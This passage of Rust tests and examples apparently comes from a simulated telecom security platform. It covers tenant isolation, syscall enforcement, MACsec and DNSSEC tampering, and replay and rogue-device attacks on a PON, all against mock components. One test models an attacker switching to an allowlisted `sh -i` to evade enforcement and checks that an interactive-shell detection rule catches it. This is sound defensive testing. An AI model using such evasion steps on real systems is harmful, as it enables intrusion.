    let vm = schedule(&mut cluster, bank).unwrap();
    assert_eq!(vm, "tenant-bank-vm");
    assert_eq!(cluster.tenants_on_vm("tenant-bank-vm"), vec!["tenant-bank"]);
}

/// Cross-tenant movement is stopped at three independent layers: network
/// policy, RBAC, and the LSM.
#[test]
fn lateral_movement_stopped_thrice() {
    // Network layer.
    let netpol = NetworkPolicyEngine::genio_hardened(&["tenant-a", "tenant-b"]);
    assert!(!netpol.is_allowed("tenant-a", "tenant-b", 8080));
    assert!(netpol.is_allowed("tenant-a", "genio-system", 443));

    // API layer: the SDN role cannot touch orchestration resources.
    let mut authz = Authorizer::new();
    authz.add_role(sdn_management_role());
    authz.bind(RoleBinding::new("sdn-svc", "sdn-mgmt", None));
    assert!(authz.allowed("sdn-svc", "create", "flows", None));
    assert!(!authz.allowed("sdn-svc", "get", "secrets", Some("tenant-b")));
    assert!(!authz.allowed("sdn-svc", "exec", "pods/exec", Some("tenant-b")));

    // Syscall layer.
    let policy = LsmPolicy::tenant_default("tenant-a", Mode::Enforce);
    let (_, _, blocked) = enforce_trace(&policy, &attack_burst("tenant-a", 0));
    assert!(blocked >= 6);
}

/// Checker coverage (Lesson 5) plus the hardened-vs-default comparison at
/// cluster level.
#[test]
fn checker_suite_union_beats_any_single_tool() {
    let mut risky = PodSpec::new("p", "t", "img");
    risky.containers[0].privileged = true;
    risky.containers[0].resources.limits_set = false;
    let pods = vec![risky];

    let insecure = coverage(
        &genio_tool_suite(),
        &ClusterConfig::insecure_defaults(),
        &pods,
    );
    let best_single = insecure.per_tool.iter().map(|(_, n)| *n).max().unwrap();
    assert!(insecure.union > best_single);
    assert!(insecure.total >= insecure.union);

    let hardened = coverage(&genio_tool_suite(), &ClusterConfig::genio_hardened(), &[]);
    assert_eq!(hardened.total, 0);
}

/// Falco-like detection layered on top of LSM enforcement: the LSM blocks
/// most of the burst; Falco sees all of it, including the `sh -i` variant
/// that slips the process allowlist.
#[test]
fn detection_covers_enforcement_gaps() {
    let policy = LsmPolicy::tenant_default("tenant-a", Mode::Enforce);
    let engine = Engine::with_tier(RuleSetTier::Default).unwrap();

    let mut burst = attack_burst("tenant-a", 0);
    // Attacker adapts: uses `sh` (allowlisted for health checks).
    burst[0].process = "sh".into();

    let (_, _, blocked) = enforce_trace(&policy, &burst);
    assert!(blocked < burst.len(), "the adapted exec slips the LSM");

    let alerts = engine.process_all(&burst);
    let alerted_rules: Vec<&str> = alerts.iter().map(|a| a.rule.as_str()).collect();
    assert!(
        alerted_rules.contains(&"interactive-shell"),
        "Falco still sees `sh -i`"
    );
}

/// Detection quality on a realistic mixed trace: default tier catches every
/// attack event with bounded false positives.
#[test]
fn mixed_trace_detection_quality() {
    let trace = mixed_trace("tenant-a", 1_000, 5);
    let engine = Engine::with_tier(RuleSetTier::Default).unwrap();
    let stats = score(&engine, &trace);
    assert_eq!(stats.false_negatives, 0);
    assert!(stats.recall() == 1.0);
    // FP rate on benign events stays under 25% (the /etc write rule).
    let benign_total = stats.false_positives + stats.true_negatives;
    assert!((stats.false_positives as f64) < benign_total as f64 * 0.25);
}

/// Resource abuse: the noisy-neighbour tenant is flagged while fair tenants
/// are not, and the PEACH review explains why it should have been in a VM.
#[test]
fn noisy_neighbour_flagged_and_peach_explains() {
    let mut detector = AbuseDetector::new(AbuseConfig::default());
    let mut findings = Vec::new();
    for _ in 0..6 {
        findings.extend(detector.ingest(interval(&[
            ("tenant-miner", 3_800.0, 512.0, 100.0),
            ("tenant-a", 100.0, 512.0, 100.0),
            ("tenant-b", 100.0, 512.0, 100.0),
        ])));
    }
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].tenant, "tenant-miner");
    assert_eq!(findings[0].resource, Resource::Cpu);

    // An unhardened tenant exposing a complex interface: PEACH demands a VM.
    let mut review = unhardened_review("tenant-miner", InterfaceComplexity::High);
    assert_eq!(review.recommend(), Recommendation::HardIsolationRequired);
    // After full hardening the same tenant could share.
    review.privilege = Strength::Strong;
    review.encryption = Strength::Strong;
    review.authentication = Strength::Strong;
    review.connectivity = Strength::Strong;
    review.hygiene = Strength::Strong;
    assert_eq!(review.recommend(), Recommendation::SoftIsolationAcceptable);
}

/// Benign load generates zero LSM blocks and zero lenient-tier alerts: the
/// policies fit the workload.
#[test]
fn benign_load_runs_clean() {
    let trace = benign_workload("tenant-a", 500);
    let policy = LsmPolicy::tenant_default("tenant-a", Mode::Enforce);
    let (allowed, audited, blocked) = enforce_trace(&policy, &trace);
    assert_eq!((audited, blocked), (0, 0));
    assert_eq!(allowed, 500);
    let engine = Engine::with_tier(RuleSetTier::Lenient).unwrap();
    assert!(engine.process_all(&trace).is_empty());
}
