//! Integration: the full attack campaign across every substrate, plus
//! single-mitigation ablations showing each defense layer is load-bearing.

use genio::core::platform::{MitigationSet, Platform};
use genio::core::scenario::{run_campaign, CampaignConfig};
use genio::core::threat_model::MitigationId;

#[test]
fn campaign_matrix_shape_holds() {
    let report = run_campaign(&CampaignConfig::default());
    assert_eq!(report.rows.len(), 8);
    for row in &report.rows {
        assert!(
            row.unmitigated.succeeded,
            "{} must succeed without mitigations: {}",
            row.threat_id, row.unmitigated.notes
        );
        assert!(
            !row.mitigated.succeeded,
            "{} must be stopped with mitigations: {}",
            row.threat_id, row.mitigated.notes
        );
        assert!(
            row.mitigated.detected,
            "{} must be detected with mitigations: {}",
            row.threat_id, row.mitigated.notes
        );
    }
}

#[test]
fn campaign_is_seed_stable() {
    let a = run_campaign(&CampaignConfig { seed: 1 });
    let b = run_campaign(&CampaignConfig { seed: 99 });
    // Different key material, same security outcome.
    for (ra, rb) in a.rows.iter().zip(b.rows.iter()) {
        assert_eq!(
            ra.unmitigated.succeeded, rb.unmitigated.succeeded,
            "{}",
            ra.threat_id
        );
        assert_eq!(
            ra.mitigated.succeeded, rb.mitigated.succeeded,
            "{}",
            ra.threat_id
        );
    }
}

#[test]
fn ablating_one_mitigation_uncovers_its_threats() {
    // Posture-level ablation: each mitigation removed alone must uncover a
    // threat only if it was that threat's sole cover.
    let mut platform = Platform::reference_deployment(3);
    let baseline = platform.posture_report();
    assert!(baseline.uncovered_threats.is_empty());

    // M12 is the only mitigation for T6 in the paper's matrix.
    platform.mitigations = MitigationSet::all().without(MitigationId::M12);
    let ablated = platform.posture_report();
    assert_eq!(ablated.uncovered_threats, vec!["T6".to_string()]);

    // M3 removed alone leaves T1 covered by M4.
    platform.mitigations = MitigationSet::all().without(MitigationId::M3);
    let ablated = platform.posture_report();
    assert!(ablated.uncovered_threats.is_empty());

    // M3 and M4 removed together uncovers T1.
    platform.mitigations = MitigationSet::all()
        .without(MitigationId::M3)
        .without(MitigationId::M4);
    let ablated = platform.posture_report();
    assert_eq!(ablated.uncovered_threats, vec!["T1".to_string()]);
}

#[test]
fn report_renders_for_humans() {
    let report = run_campaign(&CampaignConfig::default());
    let text = report.render();
    assert!(text.lines().count() >= 9, "header plus eight rows");
    assert!(text.contains("fiber tap"));
    assert!(text.contains("malicious image"));
}
