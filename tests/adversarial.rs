//! Adversarial edge cases across crates: field-level tampering, confusion
//! attacks, and boundary semantics that the per-crate suites don't cover.

use genio::appsec::yara::{Pattern, Rule};
use genio::netsec::dnssec::{RecordType, Resolver, Zone, ZoneView};
use genio::netsec::macsec::{MacsecConfig, MacsecPeer};
use genio::netsec::onboarding::{onboard, DeviceClass, Enrollment};
use genio::secureboot::luks::{LuksVolume, PlatformSupport};
use genio::secureboot::tpm::Tpm;
use genio::supplychain::repo::{RepoClient, Repository};
use genio::vulnmgmt::cvss::Vector;

/// Every SecTAG field is authenticated: mutating SCI, AN or PN on a
/// protected frame must fail validation, not just payload bytes.
#[test]
fn macsec_sectag_field_tampering() {
    let cfg = MacsecConfig::default();
    let mut tx = MacsecPeer::new(1, &cfg, b"cak").unwrap();
    let mut rx = MacsecPeer::new(2, &cfg, b"cak").unwrap();
    let frame = tx.protect(b"flow rule").unwrap();

    let mut sci_swapped = frame.clone();
    sci_swapped.sci = 99;
    assert!(rx.validate(&sci_swapped).is_err(), "sci swap");

    let mut an_swapped = frame.clone();
    an_swapped.an = 1;
    assert!(rx.validate(&an_swapped).is_err(), "an swap");

    let mut pn_advanced = frame.clone();
    pn_advanced.pn += 5;
    assert!(rx.validate(&pn_advanced).is_err(), "pn forge");

    // The untouched frame still validates after all the failed attempts
    // (failed validations must not poison the replay window).
    assert_eq!(rx.validate(&frame).unwrap(), b"flow rule");
}

/// Cross-channel reflection: a frame I sent must not validate as a frame
/// I received (reflection attack on a shared CAK).
#[test]
fn macsec_reflection_rejected() {
    let cfg = MacsecConfig::default();
    let mut a = MacsecPeer::new(1, &cfg, b"cak").unwrap();
    let frame = a.protect(b"to the peer").unwrap();
    // The attacker bounces A's own frame back at A. A has never installed
    // its own SCI as a receive channel with matching state, but lazy SAK
    // derivation would accept it — the freshness check must not: A's own
    // channel decrypts (same CAK), which is exactly why real MACsec runs
    // distinct channels per direction. Validate the frame twice: second
    // delivery must always fail.
    let first = a.validate(&frame);
    if first.is_ok() {
        assert!(a.validate(&frame).is_err(), "replayed reflection rejected");
    }
}

/// Revocation that lands *between* enrolment and onboarding is honoured.
#[test]
fn revocation_race_is_safe() {
    let mut e = Enrollment::new(b"race", (0, 100_000), 6).unwrap();
    let mut onu = e.enroll("onu", DeviceClass::Onu, b"k1").unwrap();
    let mut olt = e.enroll("olt", DeviceClass::Olt, b"k2").unwrap();
    let anchor = e.trust_anchor();
    // CRL snapshot taken *after* revocation must block the session even
    // though the certificates themselves are untouched and in-window.
    e.revoke(&onu);
    let crl = e.crl().clone();
    assert!(onboard(&mut onu, &mut olt, &anchor, &crl, 10, b"s").is_err());
    // A stale CRL snapshot (pre-revocation) would still admit — the
    // operational requirement is CRL freshness, which the platform core
    // models by always passing the live list.
}

/// DNSSEC type confusion: a valid TXT record must not answer an A query,
/// even though its signature verifies.
#[test]
fn dnssec_record_type_confusion() {
    let mut root = Zone::new(".", b"root");
    let mut zone = Zone::new("genio.example", b"zone");
    zone.add_record("svc.genio.example", RecordType::Txt, "v=hint")
        .unwrap();
    root.delegate(&zone).unwrap();
    let mut resolver = Resolver::new(".", root.public_key());
    resolver.add_zone(ZoneView::of(&root));
    resolver.add_zone(ZoneView::of(&zone));
    assert!(resolver
        .resolve(&[".", "genio.example"], "svc.genio.example", RecordType::A)
        .is_err());
    assert!(resolver
        .resolve(
            &[".", "genio.example"],
            "svc.genio.example",
            RecordType::Txt
        )
        .is_ok());
}

/// Sealing to an empty PCR selection yields a blob any platform state can
/// unseal on the same TPM — but still never on a different TPM.
#[test]
fn tpm_empty_selection_semantics() {
    let mut tpm = Tpm::new(b"a");
    let blob = tpm.seal(&[], b"secret").unwrap();
    tpm.extend(0, b"whatever");
    assert_eq!(
        tpm.unseal(&blob).unwrap(),
        b"secret",
        "no PCR binding requested"
    );
    let other = Tpm::new(b"b");
    assert!(
        other.unseal(&blob).is_err(),
        "still bound to the TPM identity"
    );
}

/// A volume's TPM slot sealed on one device must not unlock with another
/// device's TPM even in the identical PCR state.
#[test]
fn luks_tpm_slot_is_device_bound() {
    let mut tpm_a = Tpm::new(b"device-a");
    let mut tpm_b = Tpm::new(b"device-b");
    tpm_a.extend(8, b"kernel");
    tpm_b.extend(8, b"kernel"); // same measured state
    let mut vol = LuksVolume::format(b"vol");
    vol.add_tpm_slot("clevis", &mut tpm_a, &[8], &PlatformSupport::default())
        .unwrap();
    vol.lock();
    assert!(vol.unlock_with_tpm(&tpm_b).is_err());
    assert!(vol.unlock_with_tpm(&tpm_a).is_ok());
}

/// Release-file substitution between two repositories signed by different
/// keys is caught even when both repositories are individually honest.
#[test]
fn repo_release_substitution() {
    let mut repo_a = Repository::new("suite", b"key-a").unwrap();
    let mut repo_b = Repository::new("suite", b"key-b").unwrap();
    repo_a.publish("pkg", "1.0.0", b"content-a").unwrap();
    repo_b.publish("pkg", "1.0.0", b"content-b").unwrap();
    // A client pinned to repo A's key must reject repo B wholesale, even
    // though B is internally consistent.
    let client_a = RepoClient::trusting(repo_a.public_key());
    assert!(client_a.verify_and_fetch(&repo_b, "pkg").is_err());
    assert!(client_a.verify_and_fetch(&repo_a, "pkg").is_ok());
}

/// YARA threshold semantics at the boundary: `min_matches` larger than the
/// pattern count degrades to "all patterns".
#[test]
fn yara_threshold_saturates() {
    let rule = Rule::new("r").string("one").string("two").min_matches(99);
    assert!(!rule.matches(b"one only"));
    assert!(rule.matches(b"one and two"));
    // And a raw pattern never matches across a boundary it doesn't span.
    assert!(!Pattern::Literal(b"abc".to_vec()).matches(b"ab"));
}

/// Known published CVSS scores for tricky metric interactions (scope
/// change with low privileges; adjacent network).
#[test]
fn cvss_published_edge_scores() {
    // PR:L weight switches from 0.62 to 0.68 under scope change: 9.9 is
    // the canonical "authenticated container escape" score.
    let v: Vector = "AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:H/A:H".parse().unwrap();
    assert_eq!(v.base_score(), 9.9);
    // Adjacent-network full-impact: 8.8.
    let v: Vector = "AV:A/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H".parse().unwrap();
    assert_eq!(v.base_score(), 8.8);
    // High-complexity scope-changed disclosure-only. Published examples
    // put AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:N/A:N at 6.8.
    let v: Vector = "AV:N/AC:H/PR:N/UI:N/S:C/C:H/I:N/A:N".parse().unwrap();
    assert_eq!(v.base_score(), 6.8);
}
