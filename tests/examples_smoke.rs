//! Smoke test: every example in `examples/` runs to completion with
//! exit status 0. Cargo builds the example binaries alongside the test
//! binaries, so they sit in `<profile>/examples/` next to our own
//! `<profile>/deps/` directory.

use std::path::PathBuf;
use std::process::Command;

const EXAMPLES: &[&str] = &[
    "architecture_inventory",
    "attack_campaign",
    "compliance_report",
    "coverage_matrix",
    "deployment_report",
    "fleet_determinism",
    "fleet_operations",
    "fleet_patch_cycle",
    "observability_report",
    "posture_dossier",
    "quickstart",
    "tenant_onboarding",
    "trace_determinism",
];

fn examples_dir() -> PathBuf {
    let exe = std::env::current_exe().expect("test binary path");
    // <target>/<profile>/deps/examples_smoke-<hash> → <target>/<profile>/examples
    exe.parent()
        .and_then(|deps| deps.parent())
        .map(|profile| profile.join("examples"))
        .expect("profile dir above deps/")
}

#[test]
fn every_example_exits_zero() {
    let dir = examples_dir();
    let mut missing = Vec::new();
    let mut failed = Vec::new();
    for name in EXAMPLES {
        let mut path = dir.join(name);
        if !path.exists() {
            path.set_extension("exe");
        }
        if !path.exists() {
            missing.push(*name);
            continue;
        }
        match Command::new(&path).output() {
            Ok(out) if out.status.success() => {}
            Ok(out) => {
                let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
                failed.push(format!("{name}: {} — {stderr}", out.status));
            }
            Err(e) => failed.push(format!("{name}: spawn failed: {e}")),
        }
    }
    assert!(
        missing.is_empty(),
        "example binaries not built (run via `cargo test`, which builds them): {missing:?}"
    );
    assert!(failed.is_empty(), "examples exited non-zero:\n{}", failed.join("\n"));
}

/// The observability dossier must name every instrumented subsystem —
/// an instrumentation regression in any crate shows up here as a
/// missing `[subsystem]` section.
#[test]
fn observability_report_covers_every_instrumented_subsystem() {
    let mut path = examples_dir().join("observability_report");
    if !path.exists() {
        path.set_extension("exe");
    }
    assert!(
        path.exists(),
        "observability_report not built (run via `cargo test`, which builds it)"
    );
    let out = Command::new(&path).output().expect("spawn observability_report");
    assert!(
        out.status.success(),
        "observability_report exited {} — {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    for subsystem in ["pon", "crypto", "netsec", "runtime", "orchestrator", "core"] {
        assert!(
            stdout.contains(&format!("[{subsystem}]")),
            "dossier is missing the {subsystem} section"
        );
    }
    for exporter in ["genio-telemetry/v1", "Prometheus text"] {
        assert!(stdout.contains(exporter), "dossier is missing the {exporter} exporter view");
    }
}

/// The list above goes stale silently if an example is added or removed;
/// fail loudly instead.
#[test]
fn example_list_matches_directory() {
    let manifest_dir = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
    let mut on_disk: Vec<String> = std::fs::read_dir(manifest_dir.join("examples"))
        .expect("examples/ directory")
        .filter_map(|e| {
            let p = e.ok()?.path();
            (p.extension()? == "rs").then(|| p.file_stem().unwrap().to_string_lossy().into_owned())
        })
        .collect();
    on_disk.sort();
    let mut listed: Vec<String> = EXAMPLES.iter().map(|s| s.to_string()).collect();
    listed.sort();
    assert_eq!(listed, on_disk, "keep EXAMPLES in sync with examples/*.rs");
}
