//! Integration: the secure-communication path of mitigations M3/M4 —
//! DNSSEC endpoint discovery, mutual-auth onboarding, certificate-based
//! PON activation, and encrypted traffic on both the optical and Ethernet
//! segments, with the corresponding T1 attacks replayed against it.

use genio::netsec::dnssec::{RecordType, Resolver, Zone, ZoneView};
use genio::netsec::macsec::{MacsecConfig, MacsecPeer};
use genio::netsec::onboarding::{onboard, DeviceClass, Enrollment};
use genio::pon::activation::{ActivationController, CertificateAdmission};
use genio::pon::attack::{FiberTap, ImpersonationOutcome, ReplayAttacker, ReplayOutcome, RogueOnu};
use genio::pon::security::GemCrypto;
use genio::pon::topology::PonTree;

/// The full M3+M4 session, in order.
#[test]
fn secure_onboarding_and_traffic() {
    // 1. DNSSEC discovery of the registration endpoint.
    let mut root = Zone::new(".", b"root-zone");
    let mut genio_zone = Zone::new("genio.example", b"genio-zone");
    genio_zone
        .add_record("register.genio.example", RecordType::A, "203.0.113.10")
        .unwrap();
    root.delegate(&genio_zone).unwrap();
    let mut resolver = Resolver::new(".", root.public_key());
    resolver.add_zone(ZoneView::of(&root));
    resolver.add_zone(ZoneView::of(&genio_zone));
    let endpoint = resolver
        .resolve(
            &[".", "genio.example"],
            "register.genio.example",
            RecordType::A,
        )
        .unwrap();
    assert_eq!(endpoint, "203.0.113.10");

    // 2. PKI enrolment and mutual-auth onboarding.
    let mut enrollment = Enrollment::new(b"fleet", (0, 100_000), 6).unwrap();
    let mut onu = enrollment
        .enroll("onu-7", DeviceClass::Onu, b"onu7")
        .unwrap();
    let mut olt = enrollment
        .enroll("olt-1", DeviceClass::Olt, b"olt1")
        .unwrap();
    let anchor = enrollment.trust_anchor();
    let crl = enrollment.crl().clone();
    let session = onboard(&mut onu, &mut olt, &anchor, &crl, 50, b"sess").unwrap();

    // 3. The onboarding transcript binds both ends to the same channel.
    assert_eq!(
        session.device_keys.transcript_hash,
        session.infra_keys.transcript_hash
    );

    // 4. Certificate-gated PON activation.
    let mut tree = PonTree::builder("olt-1/pon-0").split_ratio(8).build();
    tree.attach_onu("onu-7", 300).unwrap();
    let mut controller = ActivationController::new(Box::new(CertificateAdmission::new(
        move |serial: &str, evidence: &[u8]| serial == "onu-7" && evidence == b"chain-onu-7",
    )));
    controller
        .activate(&mut tree, "onu-7", Some(b"chain-onu-7"))
        .unwrap();

    // 5. Optical-segment encryption keyed from the session.
    let mut key_seed = session.device_keys.transcript_hash.to_vec();
    key_seed.extend_from_slice(b"gem-master");
    let mut olt_gem = GemCrypto::new(&key_seed);
    let mut onu_gem = GemCrypto::new(&key_seed);
    olt_gem.establish_key(1001, 1);
    onu_gem.establish_key(1001, 1);
    let frame = olt_gem
        .encrypt_downstream(1001, 1, b"flow-table push")
        .unwrap();
    assert_eq!(onu_gem.decrypt(&frame).unwrap(), b"flow-table push");

    // 6. Ethernet-segment MACsec on the OLT uplink.
    let cfg = MacsecConfig::default();
    let mut olt_uplink = MacsecPeer::new(0x01, &cfg, &key_seed).unwrap();
    let mut aggregation = MacsecPeer::new(0x02, &cfg, &key_seed).unwrap();
    let protected = olt_uplink.protect(b"northbound telemetry").unwrap();
    assert_eq!(
        aggregation.validate(&protected).unwrap(),
        b"northbound telemetry"
    );
}

/// The same T1 attacks from the campaign, directly against the session.
#[test]
fn t1_attacks_fail_against_the_secure_session() {
    let seed = b"session-keys";
    let mut olt_gem = GemCrypto::new(seed);
    let mut onu_gem = GemCrypto::new(seed);
    olt_gem.establish_key(7, 1);
    onu_gem.establish_key(7, 1);

    let mut tap = FiberTap::new();
    let mut replayer = ReplayAttacker::new();
    for i in 0..20u32 {
        let frame = olt_gem
            .encrypt_downstream(7, 1, format!("reading {i}").as_bytes())
            .unwrap();
        tap.observe(&frame);
        replayer.capture(&frame);
        onu_gem.decrypt(&frame).unwrap();
    }
    // Eavesdropping yields nothing readable.
    assert_eq!(tap.exposure_ratio(), Some(0.0));
    assert!(tap.readable_payloads().is_empty());
    // Replay of any captured frame is rejected.
    for i in 0..replayer.captured_count() {
        assert_eq!(
            replayer.replay_against(i, &mut onu_gem),
            ReplayOutcome::RejectedReplay
        );
    }

    // Impersonation without the device key fails certificate admission.
    let mut tree = PonTree::builder("olt-1/pon-0").split_ratio(8).build();
    tree.attach_onu("victim", 100).unwrap();
    let mut controller =
        ActivationController::new(Box::new(CertificateAdmission::new(|_s: &str, e: &[u8]| {
            e == b"the-genuine-chain"
        })));
    let rogue = RogueOnu::cloning("victim").with_forged_evidence(b"not-it".to_vec());
    assert!(matches!(
        rogue.attempt(&mut controller, &mut tree),
        ImpersonationOutcome::Denied(_)
    ));
    // The denial is on the audit trail.
    assert_eq!(controller.events().len(), 1);
    assert!(controller.events()[0].outcome.is_err());
}

/// Revocation propagates: a compromised ONU is revoked and can neither
/// onboard nor re-enrol under its old certificate.
#[test]
fn revoked_onu_is_locked_out() {
    let mut enrollment = Enrollment::new(b"fleet2", (0, 100_000), 6).unwrap();
    let mut onu = enrollment
        .enroll("onu-evil", DeviceClass::Onu, b"k1")
        .unwrap();
    let mut olt = enrollment.enroll("olt-1", DeviceClass::Olt, b"k2").unwrap();

    // Works before revocation.
    let anchor = enrollment.trust_anchor();
    assert!(onboard(
        &mut onu,
        &mut olt,
        &anchor,
        &enrollment.crl().clone(),
        10,
        b"s1"
    )
    .is_ok());

    enrollment.revoke(&onu);
    let crl = enrollment.crl().clone();
    assert!(onboard(&mut onu, &mut olt, &anchor, &crl, 20, b"s2").is_err());
    assert_eq!(enrollment.ledger.revocations, 1);
}

/// MACsec key rotation under PN pressure keeps the link alive without
/// accepting stale traffic.
#[test]
fn uplink_rotation_under_load() {
    let cfg = MacsecConfig {
        replay_window: 32,
        pn_limit: 100,
    };
    let mut a = MacsecPeer::new(1, &cfg, b"cak").unwrap();
    let mut b = MacsecPeer::new(2, &cfg, b"cak").unwrap();
    let mut delivered = 0u32;
    let mut old_frame = None;
    for i in 0..250u32 {
        let frame = match a.protect(format!("frame {i}").as_bytes()) {
            Ok(f) => f,
            Err(_) => {
                a.rotate_sak().unwrap();
                a.protect(format!("frame {i}").as_bytes()).unwrap()
            }
        };
        if i == 10 {
            old_frame = Some(frame.clone());
        }
        b.validate(&frame).unwrap();
        delivered += 1;
    }
    assert_eq!(delivered, 250);
    assert!(a.current_an() > 0, "rotation happened");
    // A frame captured before rotation cannot be replayed now.
    assert!(b.validate(&old_frame.unwrap()).is_err());
}
