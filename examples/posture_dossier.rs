//! Generates the full security-posture dossier for the reference
//! deployment — the document an auditor reviewing CE-marking / CRA
//! conformity would receive, with all evidence regenerated live.
//!
//! ```sh
//! cargo run --example posture_dossier > dossier.md
//! ```

use genio::core::report::reference_dossier;

fn main() {
    print!("{}", reference_dossier());
}
