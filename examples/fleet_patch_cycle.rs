//! Domain scenario: one vulnerability-management cycle across the OLT
//! fleet — the reactive, fragmented reality of Lessons 4 and 6.
//!
//! ```sh
//! cargo run --example fleet_patch_cycle
//! ```

use genio::vulnmgmt::cve::reference_corpus;
use genio::vulnmgmt::feed::TrackingPipeline;
use genio::vulnmgmt::kbom::{precision_recall, Kbom};
use genio::vulnmgmt::patching::{schedule, window_stats, PatchPolicy};
use genio::vulnmgmt::scanner::{detection_vs_truth, scan, AliasMap, PackageInventory};

fn main() {
    let db = reference_corpus();
    let pipeline = TrackingPipeline::genio_default();
    let policy = PatchPolicy::default();

    println!("Fleet patch cycle");
    println!("=================");

    // Host scanning: untuned vs tuned (Lesson 4).
    let inventory = PackageInventory::onl_olt();
    let (found, truth) =
        detection_vs_truth(&inventory, &db, &AliasMap::none(), &AliasMap::onl_tuned());
    println!(
        "[scan] ONL OLT: default scanner finds {found}/{truth} findings; \
         tuning the alias map recovers the rest"
    );
    for f in scan(&inventory, &db, &AliasMap::onl_tuned()) {
        println!(
            "   {:<14} {:<32} {:<14} score {:>4}  exploited {}",
            f.cve_id,
            f.package,
            f.version.to_string(),
            f.score,
            f.exploited
        );
    }

    // KBOM precision (Lesson 6).
    let kbom = Kbom::genio_edge_cluster();
    let exact = kbom.match_exact(&db);
    let naive = kbom.match_name_only(&db);
    let pr = precision_recall(&naive, &exact);
    println!(
        "\n[kbom] middleware: name-only matching reports {} pairs (precision {:.2}); \
         KBOM exact-version matching reports {}",
        naive.len(),
        pr.precision,
        exact.len()
    );

    // Patch timelines per CVE (Lesson 6 attack windows).
    println!("\n[patching] timelines (day of year):");
    println!(
        "   {:<14} {:<30} {:>9} {:>7} {:>7} {:>7}",
        "cve", "channel", "published", "aware", "patched", "window"
    );
    let mut timelines = Vec::new();
    for cve in db.iter() {
        let t = schedule(cve, &pipeline, &policy);
        println!(
            "   {:<14} {:<30} {:>9} {:>7} {:>7} {:>7}",
            t.cve_id,
            t.channel,
            t.published_day,
            t.awareness_day,
            t.patched_day,
            t.attack_window()
        );
        timelines.push(t);
    }
    let stats = window_stats(&timelines).expect("non-empty corpus");
    println!(
        "\n   mean attack window {:.1} days (max {}), mean awareness delay {:.1} days",
        stats.mean, stats.max, stats.mean_awareness_delay
    );
}
