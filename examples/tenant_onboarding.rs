//! Domain scenario: a business user brings a new ONU and a containerized
//! application onto the platform — the full secure-by-design path.
//!
//! 1. The device is enrolled in the project PKI (M4).
//! 2. It onboards through the mutual-authentication handshake (M4).
//! 3. It activates on the PON with certificate-based admission (M4).
//! 4. Its application image is scanned (M13/M16) and tested (M14/M15).
//! 5. The pod passes restricted admission (M11) and is scheduled.
//! 6. A PEACH isolation review decides hard vs soft isolation (M17).
//!
//! ```sh
//! cargo run --example tenant_onboarding
//! ```

use genio::appsec::dast::{fuzz, VulnerableTenantApp};
use genio::appsec::sca::{app_cve_corpus, reference_tenant_image, scan as sca_scan, ScaMode};
use genio::appsec::yara::default_malware_rules;
use genio::netsec::onboarding::{onboard_with_ledger, DeviceClass, Enrollment};
use genio::orchestrator::admission::{evaluate, AdmissionLevel};
use genio::orchestrator::cluster::Cluster;
use genio::orchestrator::scheduler::schedule;
use genio::orchestrator::workload::PodSpec;
use genio::pon::activation::{ActivationController, CertificateAdmission};
use genio::pon::topology::PonTree;
use genio::runtime::peach::{hardened_review, InterfaceComplexity};

fn main() {
    println!("Tenant onboarding walkthrough");
    println!("=============================");

    // 1. PKI enrolment.
    let mut enrollment = Enrollment::new(b"fleet-2026", (0, 1_000_000), 7).expect("ca");
    let mut onu = enrollment
        .enroll("onu-0042", DeviceClass::Onu, b"onu-0042-key")
        .expect("enrol");
    let mut olt = enrollment
        .enroll("olt-1", DeviceClass::Olt, b"olt-1-key")
        .expect("enrol");
    println!("[1] enrolled onu-0042 and olt-1 under genio-root");

    // 2. Mutual-authentication onboarding.
    let result = onboard_with_ledger(&mut enrollment, &mut onu, &mut olt, 100, b"session-0042")
        .expect("onboard");
    println!(
        "[2] onboarding complete: {} chains validated, {} signatures (ledger total {})",
        result.chains_validated,
        result.signatures,
        enrollment.ledger.total()
    );

    // 3. PON activation with certificate admission.
    let mut tree = PonTree::builder("olt-1/pon-0").split_ratio(32).build();
    tree.attach_onu("onu-0042", 850).expect("fiber attached");
    let mut controller = ActivationController::new(Box::new(CertificateAdmission::new(
        |serial: &str, evidence: &[u8]| serial == "onu-0042" && evidence == b"chain:onu-0042",
    )));
    let id = controller
        .activate(&mut tree, "onu-0042", Some(b"chain:onu-0042"))
        .expect("activation");
    println!(
        "[3] onu-0042 activated with id {id}, policy {}",
        controller.policy_name()
    );

    // 4. Application vetting.
    let image = reference_tenant_image();
    let yara = default_malware_rules().scan_image(&image);
    let sca = sca_scan(&image, &app_cve_corpus(), ScaMode::WithReachability);
    let dast = fuzz(&VulnerableTenantApp::spec(), &VulnerableTenantApp);
    println!(
        "[4] image vetting: {} malware hits, {} reachable SCA findings, {} DAST findings",
        yara.len(),
        sca.len(),
        dast.findings.len()
    );
    println!("    (the tenant must fix these before the registry accepts the image)");

    // 5. Admission and scheduling of the (clean) workload.
    let pod = PodSpec::new(
        "analytics",
        "tenant-acme",
        "registry.genio/analytics:1.5-fixed",
    );
    let violations = evaluate(&pod, AdmissionLevel::Restricted);
    assert!(violations.is_empty());
    let mut cluster = Cluster::genio_edge();
    let vm = schedule(&mut cluster, pod).expect("capacity");
    println!("[5] pod tenant-acme/analytics admitted (restricted) and scheduled on {vm}");

    // 6. PEACH isolation review.
    let review = hardened_review("tenant-acme", InterfaceComplexity::Medium);
    println!(
        "[6] PEACH review: {} hardening points vs {} required -> {:?}",
        review.hardening_points(),
        review.required_points(),
        review.recommend()
    );
}
