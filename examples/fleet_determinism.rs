//! Demonstrates the fleet-scale PON engine's determinism guarantee
//! (experiment E-S2): the same fleet simulated on 1, 2 and 8 shard
//! workers yields byte-identical event logs, digests and telemetry
//! counter totals, and the sharded engine agrees with the legacy
//! object-per-ONU reference stepper.
//!
//! Output is fully deterministic — `scripts/verify.sh` runs this
//! example twice and diffs the outputs as the fleet-determinism gate.
//!
//! ```sh
//! cargo run --example fleet_determinism
//! ```

use genio::core::fleet::simulate_pon_fleet;
use genio::pon::engine::FleetSimConfig;
use genio::pon::reference;
use genio::telemetry::Telemetry;

fn main() {
    let config = FleetSimConfig {
        trees: 96,
        onus_per_tree: 32,
        cycles: 6,
        seed: 42,
        ..FleetSimConfig::default()
    };

    println!("E-S2 — fleet determinism witness");
